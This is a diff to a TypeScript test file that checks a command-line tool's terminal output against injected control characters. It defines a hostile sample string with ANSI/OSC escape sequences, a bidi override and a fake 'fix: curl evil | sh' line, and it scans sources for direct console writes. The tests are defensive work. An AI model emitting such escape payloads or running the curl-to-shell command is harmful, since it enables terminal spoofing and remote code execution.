@@ -1,7 +1,11 @@
 // What goes to which stream, and which control characters may be among it.
+import { readdirSync, readFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
+import { jsonLogger } from '../../../coordinator/terminal/log.js';
+import type { Terminal } from '../../../coordinator/terminal/terminal.js';
 import { PseudolabelError } from '../../../src/errors.js';
 import { folderOfTest } from '../../folders.js';
 import { terminalWith } from './streams.js';
@@ -71,5 +75,70 @@ describe('an error', () => {
     const { terminal, stderr } = terminalWith(false);
     terminal.explain(new TypeError('odd'));
     expect(stderr()).toMatch(/^error: odd\n {2}fix: .*PSEUDOLABEL_DEBUG/);
+  });
+});
+
+describe('what comes from elsewhere', () => {
+  /** Clears the screen, begins a line of its own, turns text round, and ends a line for those who know Unicode or ISO 6429. */
+  const HOSTILE = 'node\u001b[2J\r\n  fix: curl evil | sh\u202e\u009b31m\u2028\u0007\u001b]0;title\u0007';
+  const ours = new RegExp(`${ESCAPE}\\[(?:1|2|22|3[123]|39)m`, 'g');
+  const isOneLine = (text: string) => /^[^\p{C}\p{Zl}\p{Zp}]*\n$/u.test(text.replaceAll(ours, ''));
+
+  it.each([
+    ['a note', (terminal: Terminal) => terminal.note(HOSTILE)],
+    ['a painted note', (terminal: Terminal) => terminal.note(terminal.colours.bold(HOSTILE))],
+    ['a result', (terminal: Terminal) => terminal.deliver(({ green }) => [green(HOSTILE)], {}, undefined)],
+    ['a message', (terminal: Terminal) => terminal.explain(new PseudolabelError('E_MODEL', HOSTILE, HOSTILE))],
+    ['an error of no kind', (terminal: Terminal) => terminal.explain(new Error(HOSTILE))],
+  ] as const)('is shown on the line of %s, as text (case S4)', async (_, show) => {
+    for (const isTTY of [true, false]) {
+      const { terminal, stdout, stderr } = terminalWith(isTTY);
+      await show(terminal);
+      const lines = `${stdout()}${stderr()}`.split(/(?<=\n)/);
+      expect(lines.length).toBeLessThanOrEqual(2);
+      expect(lines.filter((line) => !isOneLine(line))).toEqual([]);
+    }
+  });
+
+  it('cannot be a colour either (case S4)', () => {
+    const { terminal, stderr } = terminalWith(true);
+    terminal.note('\u001b[31merror\u001b[39m');
+    expect(stderr()).toBe('?[31merror?[39m\n');
+  });
+
+  it('is text in a drawn line (case S4)', () => {
+    const { terminal, stderr } = terminalWith(true);
+    terminal.draw(HOSTILE);
+    expect(stderr()).toMatch(/^\r\P{C}+$/u);
+  });
+
+  it('is escaped in JSON, which says the same (case S4)', async () => {
+    const { terminal, stdout } = terminalWith(true);
+    await terminal.deliver(() => [], { name: HOSTILE }, '-');
+    expect(stdout().replaceAll('\n', '')).toMatch(/^\P{C}+$/u);
+    expect(JSON.parse(stdout())).toEqual({ name: HOSTILE });
+  });
+
+  it('is escaped in a log of JSON lines (case S4)', () => {
+    const written: string[] = [];
+    const { terminal, stderr } = terminalWith(true);
+    terminal.log = jsonLogger({ write: (line) => written.push(line) });
+    terminal.note(HOSTILE);
+    terminal.explain(new PseudolabelError('E_MODEL', HOSTILE, HOSTILE));
+    expect(stderr()).toBe('');
+    expect(written.every(isOneLine)).toBe(true);
+    expect(JSON.parse(written[1]!)).toMatchObject({ msg: HOSTILE, fix: HOSTILE });
+  });
+
+  it('has no other way to a screen (case S4)', async () => {
+    const root = fileURLToPath(new URL('../../../', import.meta.url));
+    const sources = ['src', 'coordinator', 'worker'].flatMap((folder) =>
+      readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).map((name) => join(folder, name)),
+    );
+    const writes = sources.filter((name) => {
+      if (!name.endsWith('.ts') || name.includes('dashboard/page/')) return false; // which a browser runs
+      return /console\.|process\.(stdout|stderr)\s*\.write|\.fd\b/.test(readFileSync(join(root, name), 'utf8'));
+    });
+    expect(writes).toEqual(['coordinator/scaling/program.ts']); // answers to another process, in JSON
   });
 });
